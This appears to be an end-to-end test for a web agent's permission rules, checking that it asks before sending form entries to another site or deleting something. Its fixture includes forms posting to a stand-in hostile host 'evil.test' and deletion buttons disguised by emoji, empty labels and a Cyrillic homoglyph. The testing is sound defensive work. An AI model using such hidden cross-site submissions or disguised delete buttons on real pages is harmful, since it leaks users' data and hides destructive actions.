import { expect } from "vitest"
import { agentPage } from "#scripts/e2e/web-agent/AgentPage.ts"
import { verdictOn } from "#scripts/e2e/web-agent/theModel.ts"

const OTHER_SITE = "http://evil.test"

export default agentPage({
  rule: "what sends entries is left to what leaves, whatever it is called; what goes to another site is asked about before",
  html: `<form><input aria-label="Note" value="hi"><button>Zzyzx</button></form>
    <form><input aria-label="Text" value="hi"><button>Save</button></form>
    <form action="http://evil.test/take"><input aria-label="Words" value="hi"><button>Save all</button></form>
    <form><input aria-label="Sum" value="5"><button formaction="//evil.test/take">Next</button></form>
    <iframe src="http://evil.test/" title="Frame"></iframe>
    <table><tr><td>Order 1041<td><button>🗑</button><button></button><button>D\u0435lete</button><button>Löschen</button></table>`,
  files: { "//evil.test/": `<form><input aria-label="Name" value="hi"><button>Continue</button></form>` },
  run: async (agent) => {
    await expect.poll(async () => (await agent.read()).html).toContain("Continue")
    const questionOn = (name: string) => {
      const verdict = verdictOn(agent, { _tag: "click", i: agent.id("button", name) })
      return verdict._tag === "Ask" ? verdict.question : undefined
    }
    for (const name of ["Save", "Zzyzx", ""]) expect(questionOn(name), name).toBeUndefined()
    for (const name of ["Save all", "Next", "Continue"]) {
      expect(questionOn(name), name).toContain(`“${name}” to ${OTHER_SITE} on app.test`)
    }
    for (const name of ["🗑", "D\u0435lete", "Löschen"])
      expect(questionOn(name), name).toContain("deletes something")
  }
})
